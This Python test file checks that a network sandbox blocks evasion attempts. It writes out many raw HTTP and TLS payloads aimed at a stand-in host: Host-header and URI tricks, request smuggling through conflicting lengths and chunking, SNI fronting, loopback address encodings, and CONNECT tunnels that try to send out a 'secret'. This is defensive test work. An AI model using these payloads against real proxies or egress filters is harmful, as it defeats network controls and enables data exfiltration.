"""Ways around the names by what is said on a connection that is allowed: other names, other requests, two readings."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from tests.end_to_end.caught import Fenced
from tests.end_to_end.recorder import Recorder, recording

GOOD = b"GET /good HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
EVIL = b"GET /evil HTTP/1.1\r\nHost: evil.test\r\n\r\n"
POST = b"POST /good HTTP/1.1\r\nHost: allowed.test\r\n"
LONG = b"a" * 9000

ATTEMPTS: dict[str, list[bytes]] = {
    # another host
    "Host": [EVIL],
    "Host in lower case": [EVIL.replace(b"Host", b"hOST")],
    "Host with a port": [EVIL.replace(b"evil.test", b"evil.test:80")],
    "another port": [EVIL.replace(b"evil.test", b"allowed.test:81")],
    "longer": [EVIL.replace(b"evil.test", b"allowed.test.evil.test")],
    "shorter": [EVIL.replace(b"evil.test", b"evilallowed.test")],
    "userinfo": [EVIL.replace(b"evil.test", b"allowed.test@evil.test")],
    "NUL": [EVIL.replace(b"evil.test", b"allowed.test\0.evil.test")],
    "address": [EVIL.replace(b"evil.test", b"127.1")],
    "absolute URI": [b"GET http://evil.test/evil HTTP/1.1\r\nHost: allowed.test\r\n\r\n"],
    "absolute URI without Host": [b"GET http://evil.test/evil HTTP/1.0\r\n\r\n"],
    "URI with userinfo": [b"GET http://allowed.test@evil.test/evil HTTP/1.1\r\nHost: allowed.test\r\n\r\n"],
    "CONNECT": [b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n"],
    "CONNECT to itself": [b"CONNECT evil.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n"],
    # after an allowed one
    "kept alive": [GOOD, EVIL],
    "pipelined": [GOOD + EVIL],
    "pipelined behind a body": [POST + b"Content-Length: 4\r\n\r\nbody" + EVIL],
    "pipelined behind chunks": [POST + b"Transfer-Encoding: chunked\r\n\r\n4\r\nbody\r\n0\r\n\r\n" + EVIL],
    "byte by byte": [bytes([byte]) for byte in EVIL],
    "blank lines before": [b"\r\n\r\n" + EVIL],
    "behind an upgrade that nobody wants": [
        GOOD.replace(b"\r\n\r\n", b"\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n"),
        EVIL,
    ],
    "upgrade to h2c": [GOOD.replace(b"\r\n\r\n", b"\r\nConnection: upgrade\r\nUpgrade: h2c\r\n\r\n"), EVIL],
    # two readings
    "two Hosts": [b"GET /evil HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n"],
    "folded Host": [b"GET /evil HTTP/1.1\r\nHost: allowed.test\r\n evil.test\r\n\r\n"],
    "space before the colon": [b"GET /evil HTTP/1.1\r\nHost : evil.test\r\nHost: allowed.test\r\n\r\n"],
    "bare LF": [EVIL.replace(b"\r\n", b"\n")],
    "bare LF in a head": [b"GET /evil HTTP/1.1\r\nHost: allowed.test\r\nX: y\nHost: evil.test\r\n\r\n"],
    "bare CR in a head": [b"GET /evil HTTP/1.1\r\nHost: allowed.test\r\nX: y\rHost: evil.test\r\n\r\n"],
    "LF LF ends a head": [b"GET /evil HTTP/1.1\r\nHost: allowed.test\r\n\n" + EVIL],
    "two lengths": [POST + b"Content-Length: 4\r\nContent-Length: 80\r\n\r\nbody" + EVIL],
    "two lengths in one": [POST + b"Content-Length: 4, 80\r\n\r\nbody" + EVIL],
    "signed length": [POST + b"Content-Length: +4\r\n\r\nbody" + EVIL],
    "length and chunks": [POST + b"Content-Length: 99\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + EVIL],
    "chunks and length": [POST + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + EVIL],
    "another coding": [POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + EVIL],
    "two codings": [POST + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + EVIL],
    "a coding behind a tab": [POST + b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + EVIL],
    "a coding in HTTP/1.0": [POST.replace(b"1.1", b"1.0") + b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + EVIL],
    "size of a chunk": [POST + b"Transfer-Encoding: chunked\r\n\r\n0x4\r\nbody\r\n0\r\n\r\n" + EVIL],
    "LF after a chunk": [POST + b"Transfer-Encoding: chunked\r\n\r\n4\nbody\n0\n\n" + EVIL],
    "trailer": [POST + b"Transfer-Encoding: chunked\r\n\r\n0\r\nHost: evil.test\r\n\r\n"],
    "a line of its own before": [b" \t\r\n" + EVIL],
    "old version": [b"GET http://evil.test/evil\r\n\r\n"],
    "long first line": [b"POST /evil" + LONG + b" HTTP/1.1\r\nHost: evil.test\r\n\r\n"],
    "long first line in two": [b"POST /evil" + LONG, b" HTTP/1.1\r\nHost: evil.test\r\n\r\n"],
    "first line in two": [b"POST /evil", b" HTTP/1.1\r\nHost: evil.test\r\n\r\n"],
}

HERE = """
import select, socket
import pytest
from attempts import ATTEMPTS

def say(parts, name="allowed.test", port=80):
    "What the other side has to say until it hangs up, or is silent for a while after the last part."
    with socket.create_connection((name, port), 5) as s:
        s.settimeout(5)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        heard = b""
        try:
            for number, part in enumerate(parts):
                s.sendall(part)
                if len(parts) == 2 and number == 0:
                    # What has come so far is judged by itself: a first line without an end is let go after 0.2 s.
                    patience = 5 if b"\\r\\n\\r\\n" in part else 0.3
                    if select.select([s], [], [], patience)[0]:
                        heard += s.recv(65536)
            s.shutdown(socket.SHUT_WR)
            while data := s.recv(65536):
                heard += data
        except OSError:
            pass
        return heard
"""


@pytest.fixture
def allowed() -> Iterator[Recorder]:
    with recording() as recorder:
        yield recorder


def test_requests_for_others(fenced: Fenced, allowed: Recorder) -> None:
    """Every request on a connection is for the name that was connected to, and can be read in one way only."""
    fenced.write("attempts.py", f"ATTEMPTS = {list(ATTEMPTS.values())!r}\n")
    run = fenced.run(
        HERE
        + """
@pytest.mark.parametrize("number", range(len(ATTEMPTS)))
def test_attempt(number):
    say(ATTEMPTS[number])

def test_control():
    good = b"GET /control HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"
    body = b"POST /control HTTP/1.1\\r\\nHost: ALLOWED.test.:80\\r\\n"
    parts = [good + good, good, body + b"Content-Length: 4\\r\\n\\r\\n\\r\\n\\r\\n", good,
             body + b"Transfer-Encoding: chunked\\r\\n\\r\\n1;x=y\\r\\nz\\r\\n0\\r\\nX: y\\r\\n\\r\\n", good]
    assert say(parts).count(b"heard") >= 6

def test_control_other_protocol():
    assert b"heard" in say([b"\\0\\1\\2\\n\\n"])
""",
        policy=f"""
[tool.fence.network]
allow_local_outbound = false
hosts = {{"allowed.test" = "127.0.0.1:{allowed.port}"}}
""",
    )
    run.clean("test_control", "test_control_other_protocol")
    wrong = {}
    for number, what in enumerate(ATTEMPTS):
        found = run.attempts(f"test_attempt[{number}]")
        if not found:
            wrong[what] = "not blamed"
    assert wrong == {}, wrong
    assert b"evil.test" not in allowed.heard, [part for part in allowed.heard.split(b"(connected)") if b"evil" in part]
    assert allowed.heard.count(b"GET /control") == 5


def hello(*names: bytes, split: int = 0) -> bytes:
    """A ClientHello with these server names."""

    def vector(size: int, data: bytes) -> bytes:
        return len(data).to_bytes(size, "big") + data

    def extension(kind: int, data: bytes) -> bytes:
        return kind.to_bytes(2, "big") + vector(2, data)

    lists = [vector(2, b"\0" + vector(2, name)) for name in names]
    extensions = b"".join(extension(0, one) for one in lists) + extension(43, b"\2\3\4")
    body = b"\3\3" + bytes(32) + b"\0" + vector(2, b"\x13\1") + b"\1\0" + vector(2, extensions)
    message = b"\1" + vector(3, body)
    parts = [message[:split], message[split:]] if split else [message]
    return b"".join(b"\x16\3\1" + vector(2, part) for part in parts)


FRONTS: dict[str, list[bytes]] = {
    "another name": [hello(b"evil.test")],
    "another name in records of its own": [hello(b"evil.test", split=50)],
    "in two segments": [hello(b"evil.test")[:60], hello(b"evil.test")[60:]],
    "two names": [hello(b"allowed.test", b"evil.test")],
    "longer": [hello(b"allowed.test.evil.test")],
    "NUL": [hello(b"allowed.test\0evil.test")],
    "address": [hello(b"127.0.0.1")],
    "a second hello": [hello(b"allowed.test") + hello(b"evil.test")],
    "an alert before": [b"\x15\3\1\0\2\1\0" + hello(b"evil.test")],
}


def test_fronting_by_tls(fenced: Fenced, allowed: Recorder) -> None:
    """The name in a TLS hello is the one that was connected to; without any it is that one's own affair."""
    fenced.write("attempts.py", f"ATTEMPTS = {list(FRONTS.values())!r}\n")
    controls = [hello(b"allowed.test"), hello(b"ALLOWED.test"), hello(), hello(b"allowed.test", split=7)]
    fenced.write("controls.py", f"CONTROLS = {controls!r}\n")
    run = fenced.run(
        HERE
        + """
from controls import CONTROLS

@pytest.mark.parametrize("number", range(len(ATTEMPTS)))
def test_attempt(number):
    assert b"heard" not in say([*ATTEMPTS[number], b"\\n\\n"], port=443)

@pytest.mark.parametrize("number", range(len(CONTROLS)))
def test_control(number):
    assert b"heard" in say([CONTROLS[number], b"\\x17\\3\\3\\0\\2\\n\\n"], port=443)
""",
        policy=f"""
[tool.fence.network]
allow_local_outbound = false
hosts = {{"allowed.test" = "127.0.0.1:{allowed.port}"}}
""",
    )
    run.clean(*(f"test_control[{number}]" for number in range(len(controls))))
    for number, what in enumerate(FRONTS):
        assert len(run.attempts(f"test_attempt[{number}]")) == 1, (what, run)
    assert b"evil.test" not in allowed.heard


CLASSIC = {
    "not allowed": b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
    "longer": b"CONNECT allowed.test.evil.test:443 HTTP/1.1\r\nHost: x\r\n\r\n",
    "userinfo": b"CONNECT allowed.test@evil.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n",
    "userinfo in a URI": b"GET http://allowed.test@evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "NUL": b"CONNECT 127.0.0.1\0.allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n",
    "lower case": b"connect evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
    "two Hosts": b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n",
    "URI and Host": b"GET http://allowed.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "short address": b"CONNECT 127.1:OTHER HTTP/1.1\r\nHost: 127.1:OTHER\r\n\r\n",
    "octal address": b"CONNECT 0177.0.0.1:OTHER HTTP/1.1\r\nHost: 0177.0.0.1:OTHER\r\n\r\n",
    "mapped address": b"CONNECT [::ffff:127.0.0.1]:OTHER HTTP/1.1\r\nHost: [::ffff:127.0.0.1]:OTHER\r\n\r\n",
    "no address": b"CONNECT 0.0.0.0:OTHER HTTP/1.1\r\nHost: 0.0.0.0:OTHER\r\n\r\n",
    "localhost": b"CONNECT localhost:OTHER HTTP/1.1\r\nHost: localhost:OTHER\r\n\r\n",
    "localhost with a dot": b"GET http://LOCALHOST.:OTHER/ HTTP/1.1\r\nHost: LOCALHOST.:OTHER\r\n\r\n",
    "synthetic": b"CONNECT 198.18.77.77:443 HTTP/1.1\r\nHost: 198.18.77.77:443\r\n\r\n",
    "resolver": b"CONNECT 127.0.0.53:53 HTTP/1.1\r\nHost: 127.0.0.53:53\r\n\r\n",
    "TLS": hello(b"evil.test"),
}


def test_classic_proxy(fenced: Fenced, allowed: Recorder) -> None:
    """A program that knows the filter as its proxy gets no more by what it writes there than others do."""
    with recording() as other:
        attempts = [text.replace(b"OTHER", b"%d" % other.port) for text in CLASSIC.values()]
        fenced.write("attempts.py", f"ATTEMPTS = {attempts!r}\n")
        run = fenced.run(
            HERE
            + """
import os
from urllib.parse import urlsplit

def proxy(parts):
    where = urlsplit(os.environ["http_proxy"])
    return say(parts, where.hostname, where.port)

@pytest.mark.parametrize("number", range(len(ATTEMPTS)))
def test_attempt(number):
    heard = proxy([ATTEMPTS[number] + b"secret\\r\\n\\r\\n"])
    assert b" 200 " not in heard and b"heard" not in heard

def test_control():
    assert b"heard" in proxy([b"CONNECT ALLOWED.test.:80 HTTP/1.1\\r\\nHost: allowed.test:80\\r\\n\\r\\n",
                              b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"])
    assert b"heard" in proxy([b"GET http://allowed.test/x HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"])

def test_other_host_inside():
    heard = proxy([b"CONNECT allowed.test:80 HTTP/1.1\\r\\nHost: allowed.test:80\\r\\n\\r\\n",
                   b"GET /secret HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"])
    assert b"heard" not in heard

def test_second_request():
    good = b"GET http://allowed.test/x HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"
    heard = proxy([good + good.replace(b"allowed", b"evil") + b"secret"])
    assert heard.count(b"heard") == 1

@pytest.mark.fence(denied_domains=["allowed.test"])
def test_denied_by_its_marker():
    assert b" 403 " in proxy([b"CONNECT allowed.test:80 HTTP/1.1\\r\\nHost: allowed.test:80\\r\\n\\r\\n"])
""",
            policy=f"""
[tool.fence.network]
allow_local_outbound = false
proxy_env = true
hosts = {{"allowed.test" = "127.0.0.1:{allowed.port}"}}
""",
        )
        run.clean("test_control", "test_second_request")
        run.refused("test_denied_by_its_marker", "connect allowed.test:80/tcp")
        attempts = {what: run.attempts(f"test_attempt[{number}]") for number, what in enumerate(CLASSIC)}
        for number in range(len(CLASSIC)):
            assert run.report(f"test_attempt[{number}]")["sections"] == [], run
        assert {what: len(found) for what, found in attempts.items() if len(found) != 1} == {}
        assert len(run.attempts("test_other_host_inside")) == 1, run
        assert b"secret" not in allowed.heard
        assert other.heard == b""


@pytest.mark.needs("user:root")
def test_resolver_by_the_proxy(fenced: Fenced, allowed: Recorder) -> None:
    """A name server of this machine is not reached through the filter either, though all of loopback may be."""
    with recording("127.0.0.77", 53) as plain, recording("127.0.0.77", 853) as tls:
        fenced.write("attempts.py", "ATTEMPTS = []\n")
        run = fenced.run(
            HERE
            + f"""
import os
from urllib.parse import urlsplit

@pytest.mark.parametrize("target", ["127.0.0.77:53", "127.0.0.77:853", "[::ffff:127.0.0.77]:53", "127.0.77:53"])
def test_attempt(target):
    where = urlsplit(os.environ["http_proxy"])
    head = f"CONNECT {{target}} HTTP/1.1\\r\\nHost: {{target}}\\r\\n\\r\\n".encode()
    say([head + b"secret"], where.hostname, where.port)

def test_control():
    where = urlsplit(os.environ["http_proxy"])
    target = "127.0.0.1:{allowed.port}"
    head = f"CONNECT {{target}} HTTP/1.1\\r\\nHost: {{target}}\\r\\n\\r\\n".encode()
    assert b"heard" in say([head, b"\\0\\n\\n"], where.hostname, where.port)
""",
            policy="[tool.fence.network]\nallow_local_outbound = true\nproxy_env = true\n",
        )
        run.clean("test_control")
        assert plain.heard == tls.heard == b"", run
        assert len(run.ledger) == 4, run
